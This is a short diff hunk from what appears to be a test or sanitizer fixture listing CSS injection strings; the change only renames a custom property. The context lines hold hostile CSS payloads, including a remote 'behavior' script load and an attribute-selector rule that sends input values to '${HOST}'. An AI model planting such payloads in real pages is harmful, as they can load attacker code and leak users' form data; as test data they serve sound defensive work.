@@ -126,8 +126,8 @@ const CSS = [
   `behavior:url(//${HOST}/x.htc)`,
   `\\3c/style\\3e`,
   `input[value^=a]{background:url(//${HOST}/a)}`,
-  'var(--ink)',
-  '--ink:red',
+  'var(--color-text)',
+  '--color-text:red',
   'calc(1px',
 ];
 
